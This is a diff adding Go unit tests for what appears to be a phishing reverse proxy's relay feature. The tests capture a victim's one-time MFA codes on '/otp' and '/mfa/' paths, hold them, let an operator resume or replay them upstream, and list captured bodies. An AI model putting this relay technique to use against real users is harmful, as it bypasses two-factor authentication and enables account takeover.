@@ -0,0 +1,139 @@
+package proxy
+
+import (
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestRelayHold(t *testing.T) {
+	var received []string
+	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := ioutil.ReadAll(r.Body)
+		received = append(received, string(body))
+		_, _ = w.Write([]byte("verified"))
+	}))
+	defer upstream.Close()
+
+	sess := newTransportSession()
+	sess.Config.Relay.Enabled = true
+	sess.Config.Relay.Paths = []string{"/otp", "^/mfa/.*$"}
+	sess.Config.Relay.Hold = true
+	sess.Config.Relay.Timeout = 5
+	sess.Config.Relay.History = 2
+
+	r, err := newRelay(sess)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if !r.Matches("/otp") || !r.Matches("/mfa/verify") || r.Matches("/login") {
+		t.Fatal("unexpected relay path matching")
+	}
+
+	events, stop := r.Watch()
+	defer stop()
+
+	req, _ := http.NewRequest(http.MethodPost, upstream.URL+"/otp", strings.NewReader("code=123456"))
+	done := make(chan struct{})
+	go func() {
+		r.Capture(req, "victim")
+		close(done)
+	}()
+
+	s := <-events
+	if !s.Held || s.Body != "code=123456" || s.Victim != "victim" {
+		t.Fatalf("unexpected submission %+v", s)
+	}
+
+	select {
+	case <-done:
+		t.Fatal("submission not held")
+	case <-time.After(50 * time.Millisecond):
+	}
+
+	api := httptest.NewRecorder()
+	r.ServeHTTP(api, httptest.NewRequest(http.MethodPost, "/submissions/"+s.ID+"/resume", nil))
+	if api.Code != http.StatusOK {
+		t.Fatalf("resume: %d %s", api.Code, api.Body)
+	}
+	<-done
+
+	if body, _ := ioutil.ReadAll(req.Body); string(body) != "code=123456" {
+		t.Errorf("request body not restored: %q", body)
+	}
+	if s = <-events; s.Held {
+		t.Error("submission still held after resume")
+	}
+
+	api = httptest.NewRecorder()
+	r.ServeHTTP(api, httptest.NewRequest(http.MethodPost, "/submissions/"+s.ID+"/resume", nil))
+	if api.Code != http.StatusNotFound {
+		t.Errorf("resuming a released submission: %d", api.Code)
+	}
+
+	api = httptest.NewRecorder()
+	r.ServeHTTP(api, httptest.NewRequest(http.MethodPost, "/submissions/"+s.ID+"/replay", nil))
+	if api.Code != http.StatusOK || api.Body.String() != "verified" {
+		t.Errorf("replay: %d %s", api.Code, api.Body)
+	}
+	if len(received) != 1 || received[0] != "code=123456" {
+		t.Errorf("upstream received %q", received)
+	}
+
+	api = httptest.NewRecorder()
+	r.ServeHTTP(api, httptest.NewRequest(http.MethodGet, "/submissions", nil))
+	if !strings.Contains(api.Body.String(), `"body":"code=123456"`) {
+		t.Errorf("submissions: %s", api.Body)
+	}
+}
+
+func TestRelayHistory(t *testing.T) {
+	sess := newTransportSession()
+	sess.Config.Relay.Enabled = true
+	sess.Config.Relay.Paths = []string{"/otp"}
+	sess.Config.Relay.Hold = true
+	sess.Config.Relay.Timeout = 5
+	sess.Config.Relay.History = 1
+
+	r, err := newRelay(sess)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	events, stop := r.Watch()
+	defer stop()
+
+	// The held submissions are kept beyond the history, until they are resumed
+	var ids []string
+	done := make(chan struct{}, 3)
+	for _, code := range []string{"111111", "222222", "333333"} {
+		req, _ := http.NewRequest(http.MethodPost, "https://poor.victim/otp", strings.NewReader("code="+code))
+		go func() {
+			r.Capture(req, "victim")
+			done <- struct{}{}
+		}()
+		ids = append(ids, (<-events).ID)
+	}
+
+	if submissions := r.Submissions(); len(submissions) != 3 {
+		t.Fatalf("expected the 3 held submissions, got %d", len(submissions))
+	}
+	for _, id := range ids {
+		if !r.Resume(id) {
+			t.Errorf("submission %s cannot be resumed", id)
+		}
+		<-done
+	}
+
+	// Once released, they are dropped from the history
+	r.hold = false
+	req, _ := http.NewRequest(http.MethodPost, "https://poor.victim/otp", strings.NewReader("code=444444"))
+	r.Capture(req, "victim")
+	if submissions := r.Submissions(); len(submissions) != 1 || submissions[0].Body != "code=444444" {
+		t.Errorf("expected the last submission only, got %+v", submissions)
+	}
+}